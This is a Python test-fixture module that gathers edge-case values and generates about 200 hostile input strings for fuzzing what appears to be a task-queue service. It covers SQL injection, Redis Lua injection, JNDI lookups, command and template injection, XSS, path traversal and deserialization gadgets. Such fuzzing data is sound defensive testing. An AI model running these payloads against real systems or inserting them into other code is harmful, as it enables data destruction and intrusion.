"""Values that no caller should pass and one day passes, and the texts of people who mean harm."""

from __future__ import annotations

import pickle
import re
from collections import OrderedDict
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from enum import Enum, IntEnum, StrEnum
from fractions import Fraction
from pathlib import PurePosixPath
from types import SimpleNamespace
from typing import Any
from uuid import UUID

NOW = datetime(2026, 3, 2, 12, tzinfo=UTC)
HUGE = 10**5_000
"""More digits than Python writes as a text."""


class Colour(StrEnum):
    RED = "red"


class Level(IntEnum):
    HIGH = 3


class Plain(Enum):
    ONE = 1


class Text(str):
    __slots__ = ()


class Whole(int):
    pass


class Part(float):
    pass


class LongRepr:
    def __repr__(self) -> str:
        return "x" * 10_000


class LinesInRepr:
    def __repr__(self) -> str:
        return "one\ntwo\x1b[31m"


class BrokenRepr:
    def __repr__(self) -> str:
        raise RuntimeError("no text")

    __str__ = __repr__


def nested(levels: int, leaf: Any = 1) -> Any:
    """Return dicts in dicts."""
    for _ in range(levels):
        leaf = {"a long name of a level of a tree": leaf}
    return leaf


def in_itself() -> dict[str, Any]:
    made: dict[str, Any] = {}
    made["self"] = made
    return made


NUMBERS: list[Any] = [
    *(0, 1, -1, 2, 59, 60, 100, 101, 500, 501, 1_000, 10**6, 10**6 + 1, 60_001, 2**31, 2**53 - 1, 2**53, 2**53 + 1, 2**63),
    *(-(2**63) - 1, 10**300, 10**400, True, False, Whole(5)),
    *(0.0, -0.0, 1e-9, 1e-6, 0.5, 1.5, 1e16, 1e300, 1e308, -1.5, 5e-324, Part(2.5)),
    *(float("nan"), float("inf"), -float("inf"), 1j, Decimal(1), Decimal("NaN"), Fraction(1, 3)),
]
TEXTS: list[Any] = [
    *(
        "",
        " ",
        "a",
        "b",
        "a b",
        "A",
        "a ",
        "x" * 100,
        "x" * 101,
        "x" * 191,
        "x" * 192,
        "x" * 1_000,
        "x" * 1_001,
        "x" * 70_000,
    ),
    *(
        "\0",
        "a\0b",
        "a\nb",
        "a\r\nb",
        "\t",
        "\x1b[31mred",
        "\x7f",
        "\x85",
        "\u2028",
        "\ufeff",
        "\uffff",
        "\ud800",
        "a\udfff",
    ),
    *("\u202eabc", "שלום", "😀", "👩‍👩‍👧‍👦", "\u00e9", "e\u0301", "ß", "İ", "Ａ", "\U0010ffff", "a\u200b"),
    *(
        "{}",
        "}{",
        "{0}",
        "{x}",
        "%s",
        "%(x)s",
        "%%",
        ":",
        "*",
        "?",
        "$1",
        "[a-z]",
        "..",
        "/",
        "\\",
        "'",
        '"',
        "`",
        ";",
        "--",
        "#",
    ),
    *("null", "None", "true", "NaN", "0", "-1", "1e309", "__proto__", "constructor", "__class__", "self", "celery_process"),
    *("1-", "1-x", "-1-x", "0-x", "99999999999999999999-x", "1-\0", "1-\ud800", "1:x", "active", "skip", "auto"),
    *("60", "5/s", "10/m", "0/s", "-5/s", "1e5/s", "5/d", "* * * * *", "*/10 2 * * *", "memory://", "redis://u:s3cr3t@h/0"),
    *(
        "'; DROP TABLE cp_work; --",
        "a' OR '1'='1",
        "../../etc/passwd",
        "${jndi:ldap://h}",
        "<script>x</script>",
        "os.system",
    ),
    *(Text("a"), Text("a\nb"), Colour.RED),
]
OTHERS: list[Any] = [
    None,
    *(b"", b"a", b"\xff", bytearray(b"a"), memoryview(b"a"), pickle.dumps({"a": 1})),
    *([], [1], ["a"], ["a", 5], [None], [[]], [b"a"], ["a\0"], [("a", 1)], [{}], ["a"] * 3),
    *((), ("a",), (1, 2), set(), {"a"}, {5}, frozenset({"a"}), range(3)),
    *({}, {"a": 1}, {"a": None}, {"a": {}}, {"a": []}, {1: 2}, {None: 1}, {True: 1}, {b"a": 1}, {("a",): 1}),
    *({"": 1}, {"\0": 1}, {"\ud800": 1}, {"x" * 200: 1}, {"a": 5}, {"a": {"x": 1}}, {"a": {1: 2}}, {"__proto__": {"a": 1}}),
    *({"a": value} for value in (float("nan"), float("inf"), b"x", (1,), {1}, NOW, object(), Decimal(1), "x" * 70_000)),
    *({"a": value} for value in (2**63, -0.0, 1e308, "\0", "\ud800", [], [[[]]], True, Plain.ONE)),
    *(nested(60), nested(60, float("nan")), nested(64), nested(66), in_itself(), OrderedDict(a=1)),
    *(NOW, datetime(2026, 3, 2, 12), NOW + timedelta(hours=1), date(2026, 3, 2), NOW.time()),  # noqa: DTZ001
    *(
        datetime.min.replace(tzinfo=UTC),
        datetime.max.replace(tzinfo=UTC),
        datetime(1, 1, 1),  # noqa: DTZ001
        datetime(2038, 1, 19, tzinfo=UTC),
    ),
    *(timedelta(0), timedelta(1), timedelta(-1), timedelta.max, timedelta.min, timedelta(microseconds=1)),
    *(object(), object, int, ValueError, ValueError("a"), KeyboardInterrupt, NotImplemented, ..., len, lambda: None),
    *(
        LongRepr(),
        Plain.ONE,
        SimpleNamespace(),
        re.compile("a"),
        PurePosixPath("/a"),
        UUID(int=1),
    ),
]
VALUES: list[Any] = [*NUMBERS, *TEXTS, *OTHERS]
"""Any of them may stand where an argument does."""
WITHOUT_TEXT: list[Any] = [
    HUGE,
    Level.HIGH,
    -HUGE,
    BrokenRepr(),
    LinesInRepr(),
    {"a": HUGE},
    {HUGE: 1},
    [HUGE],
    [BrokenRepr()],
    nested(2_000),
]
"""Values whose repr raises, or is of several lines."""


def shown(value: Any) -> str:
    """Return a short text of a value, whatever its own one does."""
    try:
        return ascii(value)[:60]
    except Exception:
        return type(value).__name__


_OF_SQL = (
    "' OR '1'='1|' OR 1=1 -- |') OR ('1'='1|\" OR \"\"=\"|'; DROP TABLE {t}; -- |1; DELETE FROM {t}|' UNION SELECT NULL, version() --|"
    "'; UPDATE {t} SET state='COMPLETED' --|admin'--|admin'/*|' AND SLEEP(5) --|'; SELECT pg_sleep(5); --|'||(SELECT 1)||'|"
    "' OR EXISTS(SELECT * FROM {t}) --|%' OR '%'='|_' OR '_'='|\\'; DROP TABLE {t}; --|' OR 'x' LIKE '%|1' ORDER BY 99 --|"
    "' INTO OUTFILE '/tmp/x' --|'; COPY {t} TO PROGRAM 'id'; --|'; ATTACH DATABASE '/tmp/x' AS y; --|$$; DROP TABLE {t}; $$|"
    "E'\\\\x27'|X'27'|0x27|CHAR(39)|'' OR 1=1|' OR 1=1 LIMIT 1 OFFSET 1 --|`; DROP TABLE {t}; --|/*!50000 OR 1=1*/"
)
_OF_OTHERS = (
    "\"; return redis.call('FLUSHALL') --|]] redis.call('DEL', KEYS[1]) --[[|*3\r\n$3\r\nSET\r\n|{p}:r:1|{{}}|}{|KEYS[1]|ARGV[1]|"
    "' .. redis.call('INFO') .. '|${jndi:ldap://h/x}|#{7*7}|{{7*7}}|{% raise %}|<%= 7 %>|${{7*7}}|$(id)|`id`|; id|& id|id|%0Aid|"
    "<script>alert(1)</script>|\"><img src=x onerror=alert(1)>|javascript:alert(1)|<!--#exec cmd='id'-->|]]><x/>|&lt;b&gt;|&#39;|"
    "../../../../etc/passwd|..\\..\\windows\\win.ini|/dev/null|file:///etc/passwd|C:\\con|~root|%2e%2e%2f|"
    "%s%s%s%n|%(password)s|%x|{0.__class__.__init__.__globals__}|{self}|__import__('os').system('id')|!!python/object/apply:os.system|"
    'cos\nsystem|O:8:"stdClass":0:{}|{"$gt": ""}|{"__proto__": {"a": 1}}|null|undefined|NaN|true|[]|{}|0|-1|1e309|=1+1|@SUM(1)|'
    "Content-Type: text/html|a: b|a=b; c=d|a,b|a\\|b|a?b#c|a&b|user:pass@host|redis://h/0|*|?|[a-z]|^$|.*|(a+)+$|\\d|\\0|\\u0000|\\N{DASH}"
)


def payloads(table: str = "cp_work") -> list[str]:
    """Return 200 different texts that mean harm to some interpreter, each without characters that no name may have."""
    seeds = [*_OF_SQL.replace("{t}", table).split("|"), *_OF_OTHERS.split("|")]
    clean = [text.replace("\n", " ").replace("\r", " ") for text in seeds if text]
    ways: list[Callable[[str], str]] = [str, str.swapcase, lambda text: f"a{text}", lambda text: text.replace(" ", "/**/")]
    made = dict.fromkeys(way(text)[:100] for way in ways for text in clean)
    return list(made)[:200]
